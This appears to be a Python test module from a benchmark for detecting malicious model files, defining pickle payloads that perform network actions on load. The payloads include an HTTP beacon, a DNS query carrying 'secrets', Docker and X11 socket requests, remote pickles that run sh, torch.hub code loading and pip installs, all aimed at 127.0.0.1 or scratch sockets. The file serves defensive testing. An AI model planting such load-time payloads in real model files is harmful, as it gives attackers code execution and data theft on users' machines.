"""Loads that talk, without starting a program: all of it to 127.0.0.1 and scratch sockets."""

from __future__ import annotations

import functools
import operator
import os
import pickle
import smtplib
import urllib.request
import zipfile
from collections.abc import Callable
from pathlib import Path

from benchmarks.lab.catalogue.making import (
    REQUESTS,
    SHELL,
    WRITE,
    accepting,
    payload,
    serving,
    torch_file,
    url,
    with_files,
)
from tests.behaviours.behaviour import TCP_PORT, UDP_PORT, Behaviour
from tests.behaviours.libraries import library
from tests.behaviours.pickles import (
    LOAD,
    LOAD_TORCH,
    WEIGHTS,
    Call,
    arrived,
    exists,
    holds,
    model,
    pickled,
    said,
    source,
)

__all__ = ["NETWORK"]

_PORT = Call(int, Call(os.getenv, TCP_PORT))

_FTP = f"""\
import ftplib, os
try:
    ftplib.FTP().connect("127.0.0.1", int(os.environ["{TCP_PORT}"]), 0.3)
except OSError:
    pass
"""

_DNS = f"""\
import os, socket
question = b"\\x07%s\\x07invalid\\x00" % b"secrets" + b"\\x00\\x01\\x00\\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
    header = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6)
    peer.sendto(header + question, ("127.0.0.1", int(os.environ["{UDP_PORT}"])))
"""

_TLS = f"""\
import os, ssl
try:
    ssl.get_server_certificate(("localhost", int(os.environ["{TCP_PORT}"])))
except OSError:
    pass
"""

_DOCKER = """\
import socket
with socket.socket(socket.AF_UNIX) as peer:
    peer.connect("run/docker.sock")
    peer.sendall(b"GET /containers/json HTTP/1.1")
"""

_X11 = """\
import socket
with socket.socket(socket.AF_UNIX) as peer:
    peer.connect("X11-unix/X0")
    peer.sendall(b"l\\x00\\x0b\\x00 may I see the screen")
"""

_LOAD_CONNECTED = f"""\
import os
import pickle
import socket
import sys

with socket.create_connection(("127.0.0.1", int(os.environ["{TCP_PORT}"]))) as session:
    with open(sys.argv[1], "rb") as file:
        model = pickle.load(file)
"""

# The garbage collector knows every open session of the process.
_OPEN_SESSION = """\
import gc, socket
for found in gc.get_objects():
    if isinstance(found, socket.socket):
        found.sendall(b"hello")
"""

_SECOND_MODEL = """\
import os, pickle, urllib.request
place = os.path.expanduser("~/.cache/huggingface/hub/second/model.pkl")
os.makedirs(os.path.dirname(place))
urllib.request.urlretrieve("http://127.0.0.1:%s/model.pkl" % os.environ["SERVER_PORT"], place)
with open(place, "rb") as file:
    pickle.load(file)
"""

_WHEEL = {
    "helpful.py": "ANSWER = 42\n",
    "helpful-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: helpful\nVersion: 1.0\n",
    "helpful-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    "helpful-1.0.dist-info/RECORD": (
        "helpful.py,,\nhelpful-1.0.dist-info/METADATA,,\n"
        "helpful-1.0.dist-info/WHEEL,,\nhelpful-1.0.dist-info/RECORD,,\n"
    ),
}

_PIP = "install --isolated --disable-pip-version-check --no-index --no-cache-dir --target site"
_PIP_ARGUMENTS = [*_PIP.split(), "./helpful-1.0-py3-none-any.whl"]

_PIP_CHILD = f"""\
import subprocess, sys
subprocess.run([sys.executable, "-m", "pip"] + {_PIP_ARGUMENTS!r}, stdout=subprocess.DEVNULL)
"""

_HUBCONF = """\
def entry():
    open("fired", "w").close()
"""


def _with_wheel(notes: Callable[[], object]) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        with zipfile.ZipFile(folder / _PIP_ARGUMENTS[-1], "w") as wheel:
            for name, text in _WHEEL.items():
                wheel.writestr(zipfile.ZipInfo(name), text)
        return pickled(model(notes()))(folder)

    return make


def _hub_url() -> Call:
    # In the clear: the file's payload needs the unrestricted unpickler.
    fetch = functools.partial(
        library("torch.hub").load_state_dict_from_url, progress=False, weights_only=False
    )
    return Call(fetch, url("second.pt"))


def _with_second(folder: Path) -> Path:
    (folder / "served").mkdir()
    torch_file(lambda: WRITE, "served/second.pt")(folder)
    return torch_file(_hub_url)(folder)


def _hub_local() -> Call:
    return Call(functools.partial(library("torch.hub").load, source="local"), "repo", "entry")


NETWORK: tuple[Behaviour, ...] = (
    payload(
        "http_beacon",
        "an HTTP request to 127.0.0.1 after the import of urllib.request",
        Call(urllib.request.urlopen, url("beacon")),
        holds(REQUESTS, "GET /beacon"),
        loader=serving(),
        files={"served/beacon": "ok\n"},
    ),
    payload(
        "smtp_connection",
        "connect to 127.0.0.1, a greeting waited for in vain: the load raises",
        Call(smtplib.SMTP, "127.0.0.1", _PORT, "localhost", 0.3),
        arrived("tcp"),
        exits=1,
    ),
    payload(
        "ftp_connection",
        "connect to 127.0.0.1, a greeting waited for in vain",
        source(_FTP),
        arrived("tcp"),
    ),
    payload(
        "dns_query",
        "one datagram to 127.0.0.1 that asks for a name with data in it",
        source(_DNS),
        arrived("secrets\x07invalid"),
    ),
    payload(
        "tls_certificate",
        "localhost looked up in /etc/hosts, connect, the greeting of TLS",
        source(_TLS),
        arrived("tcp"),
    ),
    payload(
        "docker_socket",
        "connect to a Unix socket called docker.sock, a request sent",
        source(_DOCKER),
        said("GET /containers/json"),
        loader=accepting("run/docker.sock"),
    ),
    payload(
        "x11_socket",
        "connect to a Unix socket called X11-unix/X0, a request sent",
        source(_X11),
        said("may I see the screen"),
        loader=accepting("X11-unix/X0"),
    ),
    payload(
        "open_session",
        "data sent over a connection that was open before the load: one sendto",
        source(_OPEN_SESSION),
        arrived("tcp hello"),
        loader=_LOAD_CONNECTED,
    ),
    payload(
        "second_model",
        "another model fetched by HTTP into the scratch cache and loaded; sh executed by it",
        source(_SECOND_MODEL),
        exists("fired"),
        loader=serving(),
        files={"served/model.pkl": pickle.dumps(model(SHELL), 4)},
    ),
    payload(
        "remote_pickle",
        "a pickle fetched by HTTP and loaded from memory; sh executed by it",
        Call(
            pickle.loads,
            Call(operator.methodcaller("read"), Call(urllib.request.urlopen, url("model.pkl"))),
        ),
        exists("fired"),
        loader=serving(),
        files={"served/model.pkl": pickle.dumps([WEIGHTS, SHELL], 4)},
    ),
    Behaviour(
        name="torch_hub_url",
        malicious=True,
        shows="a checkpoint fetched by HTTP into torch's scratch cache; a file written by it",
        loader=serving(LOAD_TORCH),
        make=_with_second,
        fired=exists("fired"),
        needs=("torch",),
    ),
    Behaviour(
        name="torch_hub_local",
        malicious=True,
        shows="hubconf.py of a folder beside the model imported, its entry point called",
        loader=LOAD_TORCH,
        make=with_files(torch_file(_hub_local), {"repo/hubconf.py": _HUBCONF}),
        fired=exists("fired"),
        needs=("torch",),
    ),
    Behaviour(
        name="pip_install",
        malicious=True,
        shows="execve of Python with -m pip, which installs a wheel into the folder",
        loader=LOAD,
        make=_with_wheel(lambda: source(_PIP_CHILD)),
        fired=exists("site/helpful.py"),
        needs=("pip",),
    ),
    Behaviour(
        name="pip_in_process",
        malicious=True,
        shows="pip imported by the load, a wheel installed into the folder",
        loader=LOAD,
        make=_with_wheel(lambda: Call(library("pip").main, _PIP_ARGUMENTS)),
        fired=exists("site/helpful.py"),
        needs=("pip",),
    ),
)
